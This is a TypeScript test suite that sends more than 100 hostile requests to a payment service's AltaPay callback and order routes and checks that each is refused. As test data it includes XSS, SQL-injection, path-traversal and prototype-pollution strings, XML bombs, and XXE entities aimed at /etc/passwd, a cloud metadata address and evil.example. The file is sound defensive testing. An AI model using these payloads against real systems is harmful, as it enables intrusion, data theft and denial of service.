import { mkdirSync, writeFileSync } from 'node:fs';
import { afterAll, describe, expect, it } from 'vitest';
import { encodeFormBody } from '../../shared/altapay/form-body';
import { signOrder } from '../../shared/checkout/order-signature';
import { useEmulators } from '../support/emulators';
import { callbackFields, transactionXml } from '../support/gateway';
import { useLocalApi } from '../support/local-api';
import { validatorPhrasesIn } from '../support/plain-words';
import { expiresIn, signedFormBody } from '../support/signed-order';

/**
 * The hostile-input corpus: broken, oversized, mis-encoded, mistyped and malicious requests against
 * every callback route and POST /payments, over real HTTP into the real handlers. Each must get its
 * precise 4xx with a clean JSON body, and nothing may be stored or queued. No callback secret is
 * configured, so every stage (decoding, fields, XML, cross-checks) is reached rather than stopped at the
 * checksum; the orders are signed with the shop key, so their fields are reached too, and the
 * signature's own refusals are cases of their own.
 * Durations are written to test-results/security/bad-input.json for the README's figures.
 */
const stack = useEmulators();
const shopKey = 'bad-input-shop-key-0123456789abcdef0123';
const api = useLocalApi(stack, {
  // create-payment must start; no valid order is sent, so the gateway is never called.
  ALTAPAY_GATEWAY_URL: 'http://127.0.0.1:9',
  ALTAPAY_API_USERNAME: 'unused',
  ALTAPAY_API_PASSWORD: 'unused',
  ALTAPAY_TERMINAL: 'unused',
  SHOP_ORDER_KEY: shopKey,
});

interface Case {
  readonly name: string;
  readonly body: string | Uint8Array;
  readonly contentType?: string;
  /** The Order-Signature header, for orders. */
  readonly signature?: string;
  readonly status: number;
  readonly error: string;
}

const xml = transactionXml({
  shopOrderId: 'bad-1',
  transactionId: '9001',
  status: 'preauth',
  reserved: '10.00',
});
const good = callbackFields(xml);
const form = (fields: Record<string, string>) => encodeFormBody(fields);
const withField = (name: string, value: string) => form({ ...good, [name]: value });
const without = (name: string) => form(Object.fromEntries(Object.entries(good).filter(([k]) => k !== name)));
const withXml = (document: string) => form({ ...good, xml: document });
const nested = (depth: number) => `<APIResponse>${'<a>'.repeat(depth)}${'</a>'.repeat(depth)}</APIResponse>`;
const tx = (overrides: Partial<Parameters<typeof transactionXml>[0]>) =>
  transactionXml({
    shopOrderId: 'bad-1',
    transactionId: '9001',
    status: 'preauth',
    reserved: '10.00',
    ...overrides,
  });

/** Requests no route may accept, whatever the route (body, encoding, fields). */
const anyFormRoute: Case[] = [
  {
    name: 'no content type',
    body: form(good),
    contentType: '',
    status: 415,
    error: 'unsupported_media_type',
  },
  {
    name: 'JSON instead of a form',
    body: JSON.stringify(good),
    contentType: 'application/json',
    status: 415,
    error: 'unsupported_media_type',
  },
  {
    name: 'text/plain',
    body: form(good),
    contentType: 'text/plain',
    status: 415,
    error: 'unsupported_media_type',
  },
  {
    name: 'multipart',
    body: form(good),
    contentType: 'multipart/form-data; boundary=x',
    status: 415,
    error: 'unsupported_media_type',
  },
  {
    name: 'a Latin-1 charset',
    body: form(good),
    contentType: 'application/x-www-form-urlencoded; charset=iso-8859-1',
    status: 415,
    error: 'unsupported_media_type',
  },
  {
    name: 'XML as the whole body',
    body: xml,
    contentType: 'application/xml',
    status: 415,
    error: 'unsupported_media_type',
  },
  {
    name: 'bytes that are not UTF-8',
    body: Buffer.concat([Buffer.from('shop_orderid=bad-1&amount=1'), Buffer.from([0xc3, 0x28])]),
    status: 400,
    error: 'invalid_encoding',
  },
  {
    name: 'an overlong UTF-8 encoding',
    body: Buffer.concat([Buffer.from('shop_orderid='), Buffer.from([0xc0, 0xaf])]),
    status: 400,
    error: 'invalid_encoding',
  },
  { name: 'a UTF-16 body', body: Buffer.from(form(good), 'utf16le'), status: 400, error: 'invalid_encoding' },
  {
    name: 'an escape of an invalid byte (%FF)',
    body: `${form(good)}&x=%FF`,
    status: 400,
    error: 'invalid_encoding',
  },
  { name: 'a malformed escape (%ZZ)', body: `${form(good)}&x=%ZZ`, status: 400, error: 'invalid_encoding' },
  { name: 'a lone % at the end', body: `${form(good)}&x=100%`, status: 400, error: 'invalid_encoding' },
  {
    name: 'a truncated multi-byte escape',
    body: `${form(good)}&x=%E2%82`,
    status: 400,
    error: 'invalid_encoding',
  },
  {
    name: 'an escaped lone surrogate',
    body: `${form(good)}&x=%ED%A0%80`,
    status: 400,
    error: 'invalid_encoding',
  },
  {
    name: 'a broken escape in a field name',
    body: `${form(good)}&%G0=1`,
    status: 400,
    error: 'invalid_encoding',
  },
  {
    name: 'a double-encoded body',
    body: encodeURIComponent(form(good)),
    status: 400,
    error: 'missing_field',
  },
  // Cut after 'shop_orderid=bad-1&amount=10.00&currency': an empty currency.
  { name: 'a truncated body', body: form(good).slice(0, 40), status: 400, error: 'invalid_field' },
  {
    name: 'a body over 256 KiB',
    body: withField('padding', 'x'.repeat(300 * 1024)),
    status: 413,
    error: 'payload_too_large',
  },
  {
    name: 'one huge field',
    body: withField('xml', 'y'.repeat(270 * 1024)),
    status: 413,
    error: 'payload_too_large',
  },
  {
    name: '201 fields',
    body: Array.from({ length: 201 }, (_, i) => `f${i}=1`).join('&'),
    status: 400,
    error: 'too_many_fields',
  },
  { name: 'amount sent twice', body: `${form(good)}&amount=1.00`, status: 400, error: 'repeated_field' },
  {
    name: 'shop_orderid sent twice',
    body: `${form(good)}&shop_orderid=other`,
    status: 400,
    error: 'repeated_field',
  },
  { name: 'currency sent twice', body: `${form(good)}&currency=978`, status: 400, error: 'repeated_field' },
  { name: 'an empty body', body: '', status: 400, error: 'missing_field' },
  { name: 'no shop_orderid', body: without('shop_orderid'), status: 400, error: 'missing_field' },
  { name: 'no amount', body: without('amount'), status: 400, error: 'missing_field' },
  { name: 'no currency', body: without('currency'), status: 400, error: 'missing_field' },
  { name: 'amount "abc"', body: withField('amount', 'abc'), status: 400, error: 'invalid_field' },
  { name: 'a negative amount', body: withField('amount', '-10.00'), status: 400, error: 'invalid_field' },
  {
    name: 'an amount in exponent form',
    body: withField('amount', '1e5'),
    status: 400,
    error: 'invalid_field',
  },
  { name: 'a decimal comma', body: withField('amount', '10,00'), status: 400, error: 'invalid_field' },
  {
    name: 'a 20-digit amount',
    body: withField('amount', '12345678901234567890'),
    status: 400,
    error: 'invalid_field',
  },
  {
    name: 'an amount with a leading space',
    body: withField('amount', ' 10.00'),
    status: 400,
    error: 'invalid_field',
  },
  {
    name: 'an amount with 7 decimals',
    body: withField('amount', '1.0000001'),
    status: 400,
    error: 'invalid_field',
  },
  { name: 'amount NaN', body: withField('amount', 'NaN'), status: 400, error: 'invalid_field' },
  { name: 'amount Infinity', body: withField('amount', 'Infinity'), status: 400, error: 'invalid_field' },
  { name: 'a hexadecimal amount', body: withField('amount', '0x10'), status: 400, error: 'invalid_field' },
  { name: 'an empty amount', body: withField('amount', ''), status: 400, error: 'invalid_field' },
  {
    name: 'an unknown numeric currency',
    body: withField('currency', '999'),
    status: 400,
    error: 'invalid_field',
  },
  {
    name: 'a currency without minor units (XXX)',
    body: withField('currency', 'XXX'),
    status: 400,
    error: 'invalid_field',
  },
  { name: 'a two-digit currency', body: withField('currency', '20'), status: 400, error: 'invalid_field' },
  { name: 'a four-digit currency', body: withField('currency', '2080'), status: 400, error: 'invalid_field' },
  { name: 'markup as currency', body: withField('currency', '<b>'), status: 400, error: 'invalid_field' },
  {
    name: 'a script in the order id',
    body: withField('shop_orderid', '<script>alert(1)</script>'),
    status: 400,
    error: 'invalid_field',
  },
  {
    name: 'an HTML attribute breakout in the order id',
    body: withField('shop_orderid', '"><img src=x onerror=alert(1)>'),
    status: 400,
    error: 'invalid_field',
  },
  {
    name: 'SQL in the order id',
    body: withField('shop_orderid', "1'; DROP TABLE payments;--"),
    status: 400,
    error: 'invalid_field',
  },
  {
    name: 'a path traversal order id',
    body: withField('shop_orderid', '../../etc/passwd'),
    status: 400,
    error: 'invalid_field',
  },
  {
    name: 'a 101-character order id',
    body: withField('shop_orderid', 'a'.repeat(101)),
    status: 400,
    error: 'invalid_field',
  },
  {
    name: 'a slash in the order id',
    body: withField('shop_orderid', 'a/b'),
    status: 400,
    error: 'invalid_field',
  },
  {
    name: 'a right-to-left override in the order id',
    body: withField('shop_orderid', 'abc\u202Edef'),
    status: 400,
    error: 'invalid_field',
  },
  {
    name: 'a NUL byte in the order id',
    body: withField('shop_orderid', 'abc\u0000'),
    status: 400,
    error: 'invalid_field',
  },
  {
    name: 'a javascript: order id',
    body: withField('shop_orderid', 'javascript:alert(1)'),
    status: 400,
    error: 'invalid_field',
  },
  { name: 'an empty order id', body: withField('shop_orderid', ''), status: 400, error: 'invalid_field' },
];

/** Requests against the result callbacks' xml and its agreement with the form. */
const resultCallbacksOnly: Case[] = [
  { name: 'no xml', body: without('xml'), status: 400, error: 'missing_field' },
  { name: 'an empty xml', body: withField('xml', ''), status: 400, error: 'invalid_field' },
  {
    name: 'an error_message over 1000 characters',
    body: withField('error_message', 'e'.repeat(1001)),
    status: 400,
    error: 'invalid_field',
  },
  {
    name: 'a transaction_id over 64 characters',
    body: withField('transaction_id', '9'.repeat(65)),
    status: 400,
    error: 'invalid_field',
  },
  {
    name: 'control characters in status',
    body: withField('status', 'ok\u0007'),
    status: 400,
    error: 'invalid_field',
  },
  { name: 'broken xml', body: withXml('<APIResponse><Header>'), status: 400, error: 'xml_malformed' },
  { name: 'text that is not xml', body: withXml('hello'), status: 400, error: 'xml_malformed' },
  { name: 'a lone <', body: withXml('<'), status: 400, error: 'xml_malformed' },
  {
    name: 'mismatched tags',
    body: withXml('<APIResponse><Header></Body></APIResponse>'),
    status: 400,
    error: 'xml_malformed',
  },
  {
    name: 'an unquoted attribute',
    body: withXml('<APIResponse version=1><Header/></APIResponse>'),
    status: 400,
    error: 'xml_malformed',
  },
  {
    name: 'an unterminated comment',
    body: withXml('<APIResponse><!-- <Header/></APIResponse>'),
    status: 400,
    error: 'xml_malformed',
  },
  {
    name: 'an unterminated CDATA',
    body: withXml('<APIResponse><Header><![CDATA[x</Header></APIResponse>'),
    status: 400,
    error: 'xml_malformed',
  },
  {
    name: 'a DOCTYPE',
    body: withXml('<?xml version="1.0"?><!DOCTYPE APIResponse><APIResponse/>'),
    status: 400,
    error: 'xml_doctype_forbidden',
  },
  {
    name: 'billion laughs',
    body: withXml(
      `<!DOCTYPE l [<!ENTITY a "${'x'.repeat(50)}">${Array.from({ length: 9 }, (_, i) => `<!ENTITY a${i + 1} "${`&a${i || ''};`.repeat(10)}">`).join('')}]><APIResponse>&a9;</APIResponse>`,
    ),
    status: 400,
    error: 'xml_doctype_forbidden',
  },
  {
    name: 'quadratic blowup',
    body: withXml(
      `<!DOCTYPE r [<!ENTITY a "${'a'.repeat(5000)}">]><APIResponse>${'&a;'.repeat(5000)}</APIResponse>`,
    ),
    status: 400,
    error: 'xml_doctype_forbidden',
  },
  {
    name: 'an external entity (file)',
    body: withXml('<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><APIResponse>&x;</APIResponse>'),
    status: 400,
    error: 'xml_doctype_forbidden',
  },
  {
    name: 'an external entity (http)',
    body: withXml(
      '<!DOCTYPE r [<!ENTITY x SYSTEM "http://169.254.169.254/latest/meta-data/">]><APIResponse>&x;</APIResponse>',
    ),
    status: 400,
    error: 'xml_doctype_forbidden',
  },
  {
    name: 'a parameter entity',
    body: withXml('<!DOCTYPE r [<!ENTITY % p SYSTEM "http://evil.example/p.dtd"> %p;]><APIResponse/>'),
    status: 400,
    error: 'xml_doctype_forbidden',
  },
  {
    name: 'a lower-case doctype',
    body: withXml('<!doctype r><APIResponse/>'),
    status: 400,
    error: 'xml_doctype_forbidden',
  },
  {
    name: 'a DOCTYPE after a BOM',
    body: withXml('\uFEFF<!DOCTYPE r><APIResponse/>'),
    status: 400,
    error: 'xml_doctype_forbidden',
  },
  { name: 'elements nested 33 deep', body: withXml(nested(33)), status: 400, error: 'xml_malformed' },
  { name: 'elements nested 10,000 deep', body: withXml(nested(10_000)), status: 400, error: 'xml_malformed' },
  {
    name: 'two root elements',
    body: withXml('<APIResponse><Header><ErrorCode>0</ErrorCode></Header></APIResponse><APIResponse/>'),
    status: 400,
    error: 'xml_malformed',
  },
  {
    name: 'another root element',
    body: withXml('<Response><Header/></Response>'),
    status: 400,
    error: 'xml_malformed',
  },
  {
    name: 'no Header',
    body: withXml('<APIResponse><Body/></APIResponse>'),
    status: 400,
    error: 'missing_field',
  },
  {
    name: 'a Header without ErrorCode',
    body: withXml('<APIResponse><Header><Date/></Header></APIResponse>'),
    status: 400,
    error: 'missing_field',
  },
  {
    name: 'a gateway header error',
    body: withXml(
      '<APIResponse><Header><ErrorCode>200</ErrorCode><ErrorMessage>x</ErrorMessage></Header><Body/></APIResponse>',
    ),
    status: 400,
    error: 'xml_header_error',
  },
  {
    name: 'an element where text belongs',
    body: withXml(
      '<APIResponse><Header><ErrorCode>0</ErrorCode></Header><Body><Result><x/></Result></Body></APIResponse>',
    ),
    status: 400,
    error: 'invalid_field',
  },
  {
    name: 'text where Transactions belong',
    body: withXml(
      '<APIResponse><Header><ErrorCode>0</ErrorCode></Header><Body><Transactions>abc</Transactions></Body></APIResponse>',
    ),
    status: 400,
    error: 'invalid_field',
  },
  {
    name: 'a repeated ReservedAmount',
    body: withXml(
      tx({}).replace(
        '<ReservedAmount>10.00</ReservedAmount>',
        '<ReservedAmount>10.00</ReservedAmount><ReservedAmount>9999.00</ReservedAmount>',
      ),
    ),
    status: 400,
    error: 'invalid_field',
  },
  {
    name: 'a non-decimal ReservedAmount',
    body: withXml(tx({ reserved: 'abc' })),
    status: 400,
    error: 'invalid_field',
  },
  {
    name: 'a negative ReservedAmount',
    body: withXml(tx({ reserved: '-5.00' })),
    status: 400,
    error: 'invalid_field',
  },
  {
    name: 'a TransactionId over 64 characters',
    body: withXml(tx({ transactionId: '9'.repeat(65) })),
    status: 400,
    error: 'invalid_field',
  },
  {
    name: 'a Transaction without TransactionStatus',
    body: withXml(tx({}).replace(/<TransactionStatus>[^<]*<\/TransactionStatus>/, '')),
    status: 400,
    error: 'missing_field',
  },
  {
    name: 'a Transaction without ShopOrderId',
    body: withXml(tx({}).replace(/<ShopOrderId>[^<]*<\/ShopOrderId>/, '')),
    status: 400,
    error: 'missing_field',
  },
  {
    name: 'an unknown MerchantCurrency',
    body: form({ ...good, xml: tx({ currency: '999' }) }),
    status: 400,
    error: 'invalid_field',
  },
  {
    name: '101 transactions',
    body: withXml(tx({}).replace(/<Transaction>[\s\S]*<\/Transaction>/, (t) => t.repeat(101))),
    status: 400,
    error: 'invalid_field',
  },
  {
    name: 'xml for another order',
    body: withXml(tx({ shopOrderId: 'someone-else' })),
    status: 400,
    error: 'form_xml_mismatch',
  },
  {
    name: 'xml in another currency',
    body: withXml(tx({ currency: '978' })),
    status: 400,
    error: 'form_xml_mismatch',
  },
  {
    name: 'a transaction_id not in the xml',
    body: withField('transaction_id', '1234'),
    status: 400,
    error: 'form_xml_mismatch',
  },
];

/** Orders POST /payments must refuse: signed with the shop key unless the case is about the signature. */
const json = (value: unknown) => JSON.stringify(value);
const order = { shopOrderId: 'bad-order-1', amount: '10.00', currency: 'DKK', expiresAt: expiresIn() };
const signedJson = (name: string, body: string, status: number, error: string): Case => ({
  name,
  body,
  contentType: 'application/json',
  signature: signOrder(body, shopKey),
  status,
  error,
});
const orderCases: Case[] = [
  signedJson('invalid JSON', '{"shopOrderId":', 400, 'invalid_json'),
  signedJson('a JSON array', '[]', 400, 'invalid_field'),
  signedJson('JSON null', 'null', 400, 'invalid_field'),
  signedJson('a JSON number', '42', 400, 'invalid_field'),
  signedJson('JSON with a BOM', `\uFEFF${json(order)}`, 400, 'invalid_json'),
  {
    name: 'XML',
    body: '<order/>',
    contentType: 'application/xml',
    status: 415,
    error: 'unsupported_media_type',
  },
  {
    name: 'no content type',
    body: json(order),
    contentType: '',
    status: 415,
    error: 'unsupported_media_type',
  },
  {
    name: 'an order over 64 KiB',
    body: json({ ...order, padding: 'x'.repeat(70 * 1024) }),
    contentType: 'application/json',
    status: 413,
    error: 'payload_too_large',
  },
  {
    name: 'an unsigned order',
    body: json(order),
    contentType: 'application/json',
    status: 401,
    error: 'order_unsigned',
  },
  {
    name: 'an empty signature',
    body: json(order),
    contentType: 'application/json',
    signature: '',
    status: 401,
    error: 'order_unsigned',
  },
  ...(
    [
      ['a signature without v1=', (s: string) => s.slice(3)],
      ['an upper-case signature', (s: string) => `v1=${s.slice(3).toUpperCase()}`],
      ['two signatures', (s: string) => `${s},${s}`],
      ['a signature with junk after it', (s: string) => `${s}00`],
    ] as const
  ).map(([name, change]) => ({
    name,
    body: json(order),
    contentType: 'application/json',
    signature: change(signOrder(json(order), shopKey)),
    status: 403,
    error: 'order_signature_malformed',
  })),
  {
    name: 'an order signed with another key',
    body: json(order),
    contentType: 'application/json',
    signature: signOrder(json(order), 'another-shop-key-0123456789abcdef01234'),
    status: 403,
    error: 'order_signature_mismatch',
  },
  {
    name: 'an order with its amount changed after signing',
    body: json({ ...order, amount: '1.00' }),
    contentType: 'application/json',
    signature: signOrder(json(order), shopKey),
    status: 403,
    error: 'order_signature_mismatch',
  },
  signedJson('an expired order', json({ ...order, expiresAt: expiresIn(-5) }), 403, 'order_expired'),
  signedJson(
    'an order valid for more than 24 hours',
    json({ ...order, expiresAt: expiresIn(25 * 60) }),
    400,
    'invalid_field',
  ),
  ...(['shopOrderId', 'amount', 'currency', 'expiresAt'] as const).map((field) =>
    signedJson(
      `an order without ${field}`,
      json(Object.fromEntries(Object.entries(order).filter(([k]) => k !== field))),
      400,
      'missing_field',
    ),
  ),
  ...(
    [
      ['a numeric amount', { amount: 10 }],
      ['a zero amount', { amount: '0.00' }],
      ['a negative amount', { amount: '-1.00' }],
      ['three decimals', { amount: '1.005' }],
      ['an amount in exponent form', { amount: '1e3' }],
      ['a billion', { amount: '1000000000.00' }],
      ['decimals in JPY', { amount: '100.50', currency: 'JPY' }],
      ['an unknown currency', { currency: 'XXX' }],
      ['a withdrawn currency', { currency: 'BGN' }],
      ['a boolean currency', { currency: true }],
      ['an object as order id', { shopOrderId: { $ne: null } }],
      ['markup in the order id', { shopOrderId: '<script>alert(1)</script>' }],
      ['a space in the order id', { shopOrderId: 'order 1' }],
      ['a 101-character order id', { shopOrderId: 'a'.repeat(101) }],
      ['a unicode order id', { shopOrderId: 'ordre-æøå' }],
      ['a language that is not two letters', { language: 'english' }],
      ['an upper-case language', { language: 'DA' }],
      ['an unknown payment type', { type: 'refund' }],
      ['an expiry with a time-zone offset', { expiresAt: '2026-12-01T12:30:00+01:00' }],
      ['an expiry as a number', { expiresAt: 1796128200 }],
      ['an invalid e-mail', { customer: { email: 'not-an-email' } }],
      ['an unknown customer field', { customer: { admin: true } }],
      ['a country name instead of a code', { customer: { country: 'Denmark' } }],
      [
        '101 order lines',
        {
          orderLines: Array.from({ length: 101 }, (_, i) => ({
            description: 'x',
            itemId: `i${i}`,
            quantity: '1',
            unitPrice: '1.00',
          })),
        },
      ],
      [
        'a bad quantity',
        { orderLines: [{ description: 'x', itemId: 'i', quantity: '-1', unitPrice: '1.00' }] },
      ],
      [
        'an unknown order-line field',
        { orderLines: [{ description: 'x', itemId: 'i', quantity: '1', unitPrice: '1.00', price: 0 }] },
      ],
      ['an unknown top-level field', { admin: true }],
      ['a prototype-pollution key', JSON.parse('{"__proto__": {"admin": true}}')],
      ['a redirect target', { returnUrl: 'https://evil.example/' }],
    ] as const
  ).map(([name, override]) => signedJson(name, json({ ...order, ...override }), 400, 'invalid_field')),
  {
    name: 'a browser form with a bad amount',
    body: signedFormBody({ ...order, shopOrderId: 'bad-order-2', amount: 'abc' }, shopKey),
    status: 400,
    error: 'invalid_field',
  },
  {
    name: 'an unsigned browser form',
    body: 'shopOrderId=bad-order-3&amount=1.00&currency=DKK',
    status: 401,
    error: 'order_unsigned',
  },
  {
    name: 'a browser form with its order changed after signing',
    body: signedFormBody(json(order), shopKey).replace('10.00', '1.00'),
    status: 403,
    error: 'order_signature_mismatch',
  },
];

const durations: { route: string; name: string; ms: number }[] = [];
/** Every refusal's message (one per request), for the check that none is worded by a validator. */
const messages: { route: string; name: string; message: string }[] = [];
const callbackRoutes = ['/callbacks/ok', '/callbacks/fail', '/callbacks/open', '/callbacks/notification'];

async function send(route: string, c: Case): Promise<void> {
  const started = performance.now();
  const response = await api.post(
    route,
    c.body,
    c.contentType ?? 'application/x-www-form-urlencoded',
    c.signature === undefined ? {} : { 'order-signature': c.signature },
  );
  durations.push({ route, name: c.name, ms: performance.now() - started });
  const text = await response.text();
  expect(response.status, `${route} ${c.name}: ${text}`).toBe(c.status);
  expect(text).not.toMatch(/\n\s+at |node_modules|\.ts:\d+|Exception|undefined/);
  if (response.headers.get('content-type')?.startsWith('text/html')) {
    // A browser's error page: what the customer reads is the page without its markup and styles.
    messages.push({ route, name: c.name, message: text.replace(/<style[\s\S]*?<\/style>|<[^>]+>/g, ' ') });
    return;
  }
  const body = JSON.parse(text) as { error: string; message: string };
  expect(body.error, `${route} ${c.name}`).toBe(c.error);
  expect(body.message.length).toBeGreaterThan(10);
  messages.push({ route, name: c.name, message: body.message });
}

afterAll(() => {
  mkdirSync('test-results/security', { recursive: true });
  // The first request to each route includes its cold start; the figures are about refusing.
  const warm = durations.filter((d, i) => durations.findIndex((e) => e.route === d.route) !== i);
  const sorted = warm.map((d) => d.ms).sort((a, b) => a - b);
  const at = (p: number) => sorted[Math.min(sorted.length - 1, Math.ceil((p / 100) * sorted.length) - 1)];
  const bombs = warm
    .filter((d) => /laughs|quadratic|external entity|10,000 deep/.test(d.name))
    .map((d) => d.ms);
  writeFileSync(
    'test-results/security/bad-input.json',
    `${JSON.stringify(
      {
        distinctInputs: new Set(durations.map((d) => d.name)).size,
        requests: durations.length,
        medianMs: at(50),
        p99Ms: at(99),
        maxMs: sorted.at(-1),
        xmlBombsMaxMs: Math.max(...bombs),
      },
      null,
      2,
    )}\n`,
  );
});

describe('the hostile-input corpus', () => {
  it('has more than 100 distinct hostile requests', () => {
    expect(
      new Set([...anyFormRoute, ...resultCallbacksOnly, ...orderCases].map((c) => c.name)).size,
    ).toBeGreaterThan(100);
  });

  describe.each(callbackRoutes)('against %s', (route) => {
    it.each([...anyFormRoute, ...resultCallbacksOnly].map((c) => [c.name, c] as const))(
      'refuses %s',
      async (_, c) => {
        await send(route, c);
      },
    );
  });

  describe('against /callbacks/verify-order', () => {
    it.each(anyFormRoute.map((c) => [c.name, c] as const))('refuses %s', async (_, c) => {
      await send('/callbacks/verify-order', c);
    });
  });

  describe('against POST /payments', () => {
    it.each(orderCases.map((c) => [c.name, c] as const))('refuses %s', async (_, c) => {
      await send('/payments', c);
    });
  });

  it('words every refusal for a person, never in a validator’s words', () => {
    expect(messages.length).toBeGreaterThan(0);
    expect(messages).toHaveLength(durations.length);
    const worded = messages.filter((m) => validatorPhrasesIn(m.message).length > 0);
    expect(worded.map((m) => `${m.route} ${m.name}: ${m.message}`)).toEqual([]);
  });

  it('stored nothing and queued nothing for any of them', async () => {
    expect(await api.tableItems()).toEqual([]);
    expect(await api.queuedWork()).toEqual([]);
  });
});
